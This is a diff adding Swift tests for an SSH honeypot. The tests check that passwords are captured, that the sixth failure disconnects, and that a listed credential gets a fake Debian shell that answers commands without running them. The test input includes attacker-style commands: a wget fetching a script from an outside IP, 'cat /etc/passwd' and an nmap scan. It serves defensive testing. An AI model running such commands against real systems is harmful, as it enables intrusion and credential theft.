@@ -1,0 +1,110 @@
+import Crypto
+import Foundation
+import Logging
+import PalisadeCore
+import PalisadeHoneypot
+import PalisadeSSH
+import PalisadeTesting
+import Synchronization
+import Testing
+
+/// The honeypot with Debian's OpenSSH client: every password tried is an event, the sixth failure
+/// ends the connection with OpenSSH's message, a login with a listed credential gets a fake Debian
+/// shell whose commands are events in order, and a command is answered, never run.
+@Suite(.serialized) struct HoneypotTests {
+    final class Sink: HoneypotSink {
+        let events = Mutex<[JSONValue]>([])
+        func record(_ batch: [JSONValue]) async { events.withLock { $0 += batch } }
+
+        func actions() -> [String] {
+            events.withLock { $0 }.compactMap { if case .object(let m) = $0, case .string(let a)? = m["action"] { a } else { nil } }
+        }
+
+        func metadata(_ action: String, _ field: String) -> [String] {
+            events.withLock { $0 }.compactMap { event in
+                guard case .object(let m) = event, m["action"] == .string(action), case .object(let meta)? = m["metadata"],
+                    case .string(let value)? = meta[field]
+                else { return nil }
+                return value
+            }
+        }
+    }
+
+    static func honeypot(_ sink: Sink) async throws -> (HoneypotServer, Int) {
+        let server = HoneypotServer(
+            configuration: .init(
+                port: 0,
+                hostKeys: [HostKey(ed25519: Curve25519.Signing.PrivateKey())],
+                credentials: ["root": ["toor"]],
+                failureDelay: 0.05...0.1
+            ),
+            sink: sink,
+            logger: Logger(label: "test")
+        )
+        return (server, try await server.start())
+    }
+
+    static func ssh(port: Int, password: String, _ arguments: [String], input: String = "") throws -> ExternalProcess.Result {
+        let work = try TemporaryDirectory.make("palisade-honeypot-client")
+        let askpass = work.appendingPathComponent("askpass.sh")
+        try "#!/bin/sh\necho '\(password)'\n".write(to: askpass, atomically: true, encoding: .utf8)
+        try FileManager.default.setAttributes([.posixPermissions: 0o700], ofItemAtPath: askpass.path)
+        return try ExternalProcess.run(
+            "/usr/bin/env",
+            [
+                "ssh", "-F", "/dev/null", "-p", "\(port)", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+                "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=20",
+            ] + arguments,
+            input: Data(input.utf8),
+            environment: ["SSH_ASKPASS": askpass.path, "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":0"]
+        )
+    }
+
+    /// Waits until the sink has seen `action` (events reach it asynchronously).
+    static func waitFor(_ sink: Sink, _ action: String, count: Int = 1) async throws {
+        for _ in 0..<300 where sink.actions().filter({ $0 == action }).count < count { try await Task.sleep(for: .milliseconds(20)) }
+    }
+
+    @Test func everyPasswordIsCapturedAndTheSixthFailureDisconnects() async throws {
+        let sink = Sink()
+        let (server, port) = try await Self.honeypot(sink)
+        let result = try Self.ssh(port: port, password: "hunter2", ["-o", "NumberOfPasswordPrompts=10", "admin@127.0.0.1", "id"])
+        #expect(result.status == 255 && result.stderr.contains("Too many authentication failures"), "\(result.stderr)")
+        try await Self.waitFor(sink, "ssh.disconnect")
+        #expect(sink.metadata("ssh.auth_failed", "password") == Array(repeating: "hunter2", count: 6), "\(sink.actions())")
+        #expect(sink.actions().first == "ssh.connect" && sink.actions().contains("ssh.kex") && sink.actions().last == "ssh.disconnect")
+        #expect(sink.metadata("ssh.kexinit", "hassh").first?.count == 32)
+        try await server.stop()
+    }
+
+    @Test func aListedCredentialGetsAFakeShellAndNothingRuns() async throws {
+        let sink = Sink()
+        let (server, port) = try await Self.honeypot(sink)
+        let exec = try Self.ssh(port: port, password: "toor", ["root@127.0.0.1", "uname -a"])
+        #expect(exec.status == 0 && exec.stdout == FakeShell.Profile.debian12.kernel + "\n", "\(exec.stdout)\(exec.stderr)")
+        let unknown = try Self.ssh(port: port, password: "toor", ["root@127.0.0.1", "nmap -sS 10.0.0.0/8"])
+        #expect(unknown.status == 127 && unknown.stdout.contains("-bash: nmap: command not found"), "\(unknown.stdout)")
+        let interactive = try Self.ssh(
+            port: port,
+            password: "toor",
+            ["-tt", "root@127.0.0.1"],
+            input: "id\nwget http://203.0.113.9/x.sh\ncat /etc/passwd\nexit\n"
+        )
+        #expect(
+            interactive.status == 0 && interactive.stdout.contains("uid=0(root)") && interactive.stdout.contains("www-data:x:33"),
+            "\(interactive.stdout)"
+        )
+        try await Self.waitFor(sink, "ssh.disconnect", count: 3)
+        #expect(sink.metadata("ssh.exec", "command") == ["uname -a", "nmap -sS 10.0.0.0/8"])
+        #expect(sink.metadata("ssh.command", "command") == ["id", "wget http://203.0.113.9/x.sh", "cat /etc/passwd", "exit"], "\(sink.actions())")
+        let tags = sink.events.withLock { $0 }.compactMap { event -> [JSONValue]? in
+            guard case .object(let m) = event, m["action"] == .string("ssh.command"), case .object(let meta)? = m["metadata"],
+                case .array(let mitre)? = meta["mitre"], meta["command"] == .string("wget http://203.0.113.9/x.sh")
+            else { return nil }
+            return mitre
+        }
+        #expect(tags.first?.contains(.string("T1105")) == true)
+        #expect(sink.actions().filter { $0 == "ssh.login" }.count == 3)
+        try await server.stop()
+    }
+}
